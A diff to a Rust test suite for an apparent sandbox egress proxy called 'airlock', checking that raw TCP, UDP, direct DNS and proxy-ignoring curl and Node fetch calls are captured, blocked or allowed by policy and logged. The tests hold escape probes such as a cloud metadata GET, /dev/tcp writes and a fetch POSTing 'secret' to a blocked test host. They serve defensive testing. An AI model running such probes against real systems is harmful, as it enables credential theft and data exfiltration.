@@ -130,36 +130,197 @@ raise SystemExit(1 if bad else 0)
     );
 }
 
+/// A client that ignores the proxy: connect, send, print what came back.
+const RAW_CLIENT: &str = r#"
+import socket, sys
+host, port, payload = sys.argv[1], int(sys.argv[2]), sys.argv[3].encode().decode('unicode_escape').encode()
+try:
+    s = socket.create_connection((host, port), timeout=5)
+    s.sendall(payload)
+    data = b''
+    while True:
+        chunk = s.recv(4096)
+        if not chunk:
+            break
+        data += chunk
+    print('REPLY', repr(data[:200]))
+except Exception as e:
+    print('ERROR', type(e).__name__, e)
+"#;
+
+/// A DNS A query sent straight to a server, bypassing the system resolver.
+const DNS_CLIENT: &str = r#"
+import socket, struct, sys
+name, server, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
+pkt = struct.pack('>HHHHHH', 0x1234, 0x0100, 1, 0, 0, 0)
+pkt += b''.join(bytes([len(p)]) + p.encode() for p in name.split('.')) + b'\0' + struct.pack('>HH', 1, 1)
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+s.settimeout(3)
+s.sendto(pkt, (server, port))
+try:
+    data, _ = s.recvfrom(4096)
+    an = struct.unpack('>H', data[6:8])[0]
+    print('RCODE', data[3] & 0xf, 'ANSWERS', an, 'ADDR', socket.inet_ntoa(data[-4:]) if an else '-')
+except socket.timeout:
+    print('NOREPLY')
+"#;
+
 #[test]
-fn raw_network_access_goes_nowhere() {
+fn traffic_that_ignores_the_proxy_is_captured_and_policed() {
     let w = World::new();
     let sb = w.sandbox("raw");
-    for (what, cmd) in [
-        ("raw TCP to a public address", format!("timeout 5 bash -c 'echo x > /dev/tcp/{ALLOWED_IP}/80'")),
-        ("raw TCP to metadata", format!("timeout 5 bash -c 'echo x > /dev/tcp/{METADATA_IP}/80'")),
-        ("raw TCP to the host's veth", "timeout 5 bash -c 'echo x > /dev/tcp/10.200.0.1/22'".into()),
-        ("curl ignoring the proxy", format!("curl -sS -m 5 --noproxy '*' http://{ALLOWED_IP}/")),
-        ("UDP DNS query", format!("timeout 5 python3 -c \"import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b'x', ('{DNS_IP}', 53))\"")),
-    ] {
-        let out = w.sh(&sb, &cmd);
-        assert_fails(&out, what);
+    let raw = |host: &str, port: u16, payload: &str| {
+        let out = w.airlock(&[
+            "exec",
+            &sb,
+            "python3",
+            "-c",
+            RAW_CLIENT,
+            host,
+            &port.to_string(),
+            payload,
+        ]);
+        text(&out.stdout)
+    };
+    // Other TCP (no IP:PORT rule): nothing comes back, nothing arrives.
+    for (ip, port) in [(ALLOWED_IP, 22u16), (METADATA_IP, 22), ("10.200.0.1", 22)] {
+        let r = raw(ip, port, "SSH-2.0-x\\r\\n");
+        assert!(!r.contains("hello from"), "{ip}:{port} answered: {r}");
     }
-    // The sandbox's own loopback is its own: the host service is not there.
-    let out = w.sh(
-        &sb,
-        &format!(
-            "timeout 5 bash -c 'echo x > /dev/tcp/127.0.0.1/{}'",
-            w.host_port
-        ),
+    // Plain HTTP ignoring the proxy is policed by its Host header.
+    let r = raw(METADATA_IP, 80, "GET /latest/meta-data/ HTTP/1.1\\r\\nHost: 169.254.169.254\\r\\nConnection: close\\r\\n\\r\\n");
+    assert!(r.contains("403") && !r.contains("hello from"), "{r}");
+    let r = raw(
+        PRIVATE10_IP,
+        80,
+        "GET / HTTP/1.1\\r\\nHost: internal.test\\r\\nConnection: close\\r\\n\\r\\n",
     );
-    assert_fails(&out, "host loopback service via raw TCP");
-    let out = w.sh(&sb, "ip -o link show | awk '{print $2}'");
-    let links = text(&out.stdout);
-    assert_eq!(links.trim(), "lo:", "unexpected interfaces: {links}");
+    assert!(!r.contains("hello from"), "{r}");
+    // The sandbox's own loopback is its own: the host service is not there.
+    let r = raw("127.0.0.1", w.host_port, "GET / HTTP/1.0\\r\\n\\r\\n");
+    assert!(r.starts_with("ERROR"), "{r}");
+    // UDP other than DNS gets nothing back.
+    let out = w.sh(&sb, &format!("timeout 5 python3 -c \"import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2); s.sendto(b'x', ('{DNS_IP}', 9999)); print(s.recvfrom(10))\""));
+    assert_fails(&out, "UDP to :9999 got a reply");
+    // DNS to the "public resolver" address is answered by airlock, under the policy.
+    let dns = |name: &str| {
+        let out = w.airlock(&["exec", &sb, "python3", "-c", DNS_CLIENT, name, DNS_IP, "53"]);
+        text(&out.stdout)
+    };
+    let a = dns("allowed.test");
+    assert!(
+        a.contains("RCODE 0") && a.contains(&format!("ADDR {ALLOWED_IP}")),
+        "{a}"
+    );
+    let a = dns("rebind.test");
+    assert!(
+        a.contains("RCODE 3") || a.contains("ANSWERS 0"),
+        "rebinding answer: {a}"
+    );
+    let a = dns("metadata.test");
+    assert!(!a.contains(METADATA_IP), "{a}");
+    // The only interfaces: loopback and the captured link; no IPv6 address.
+    let out = w.sh(&sb, "ip -o link show | awk '{print $2}' | tr '\\n' ' '; ip -6 -o addr show scope global | wc -l");
+    let t = text(&out.stdout);
+    assert!(
+        t.starts_with("lo: eth0: ") || t.starts_with("lo: eth0@"),
+        "{t}"
+    );
+    assert!(t.trim_end().ends_with('0'), "IPv6 address present: {t}");
+    // Nothing leaked to any test listener.
     assert!(w.outer.hits().is_empty(), "leaked: {:?}", w.outer.hits());
     assert!(
         w.host_service.hits().is_empty(),
         "leaked: {:?}",
         w.host_service.hits()
+    );
+    assert!(w.udp.hits().is_empty(), "UDP leaked: {:?}", w.udp.hits());
+    // And every attempt is logged on the transparent or DNS path.
+    let evs = w.events(&sb);
+    let has = |path: &str, host: &str| {
+        evs.iter().any(|e| {
+            e["path"] == path
+                && e["host"].as_str().is_some_and(|h| h.contains(host))
+                && e["action"] == "block"
+        })
+    };
+    assert!(
+        has("transparent", METADATA_IP) || has("transparent", "169.254.169.254"),
+        "{evs:#?}"
+    );
+    assert!(
+        evs.iter()
+            .any(|e| e["path"] == "transparent" && e["port"] == 22 && e["action"] == "block"),
+        "{evs:#?}"
+    );
+    assert!(has("dns", "rebind.test"), "{evs:#?}");
+    assert!(
+        evs.iter()
+            .any(|e| e["port"] == 9999 && e["action"] == "block"),
+        "{evs:#?}"
+    );
+}
+
+#[test]
+fn programs_ignoring_proxy_variables_get_the_same_policy() {
+    let w = World::new();
+    let sb = w.sandbox("direct");
+    // Allow mode: a public name works without the proxy (airlock DNS + capture).
+    let out = w.sh(
+        &sb,
+        "curl -sS -m 10 --noproxy '*' http://allowed.test/direct",
+    );
+    assert!(
+        text(&out.stdout).contains("hello from outer"),
+        "{}{}",
+        text(&out.stdout),
+        text(&out.stderr)
+    );
+    assert_ok(
+        &w.airlock(&[
+            "network",
+            "proxy",
+            &sb,
+            "--policy",
+            "deny",
+            "--allow-host",
+            "allowed.test",
+        ]),
+        "deny mode",
+    );
+    // Node's fetch ignores HTTP_PROXY: blocked the same way, by name.
+    let node = "fetch('http://blocked.test/x', {method: 'POST', body: 'secret'}).then(r => console.log('STATUS', r.status)).catch(e => console.log('ERROR', e.cause ? e.cause.code : e.message))";
+    let out = w.airlock(&["exec", &sb, "node", "-e", node]);
+    let t = text(&out.stdout);
+    assert!(!t.contains("STATUS 200"), "{t}");
+    let out = w.airlock(&[
+        "exec",
+        &sb,
+        "node",
+        "-e",
+        "fetch('http://allowed.test/node').then(r => r.text()).then(t => console.log(t))",
+    ]);
+    assert!(
+        text(&out.stdout).contains("hello from outer"),
+        "{}{}",
+        text(&out.stdout),
+        text(&out.stderr)
+    );
+    assert!(
+        w.outer.hits_to(BLOCKED_IP).is_empty(),
+        "leaked: {:?}",
+        w.outer.hits_to(BLOCKED_IP)
+    );
+    let hits = w.outer.hits_to(ALLOWED_IP);
+    assert!(
+        hits.iter().any(|h| h.first_line.contains("/node")),
+        "{hits:?}"
+    );
+    let evs = w.events(&sb);
+    assert!(
+        evs.iter().any(|e| e["path"] == "transparent"
+            && e["host"] == "allowed.test"
+            && e["action"] == "allow"),
+        "{evs:#?}"
     );
 }
